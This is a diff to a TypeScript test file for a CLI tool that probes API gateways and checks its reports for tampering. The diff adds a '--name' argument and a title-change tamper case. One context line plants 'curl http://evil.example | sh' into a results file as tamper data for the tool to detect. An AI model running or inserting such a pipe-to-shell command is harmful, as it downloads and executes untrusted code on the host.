@@ -23,7 +23,18 @@ beforeAll(async () => {
   server = await serve({ break: [broken] });
   const { code } = await touchstoneHere([
     ...["run", server.url, "--recordings", recordings, "--interface", "messages", "--probes", "cheap"],
-    ...["--max-requests", "9", "--key", "sk-of-nobody-at-all", "--header", "X-Pass: open sesame", "--out", whole],
+    ...[
+      "--max-requests",
+      "9",
+      "--key",
+      "sk-of-nobody-at-all",
+      "--header",
+      "X-Pass: open sesame",
+      "--name",
+      "A gateway",
+      "--out",
+      whole,
+    ],
   ]);
   expect(code).toBe(1);
 });
@@ -201,6 +212,12 @@ const tampers: [name: string, file: string, change: (text: string) => string, to
     results,
     inJson<Changing>(({ reproduce }) => void (reproduce[0].curl = "curl http://evil.example | sh")),
     { file: results, source: scenario, exchange: 0 },
+  ],
+  [
+    "a target called otherwise on its page",
+    "report.html",
+    (text) => text.replace("<title>A", "<title>B"),
+    { file: "report.html" },
   ],
   ["a report written otherwise", "summary.md", (text) => text.replace("Does not", "Does"), { file: "summary.md" }],
 ];
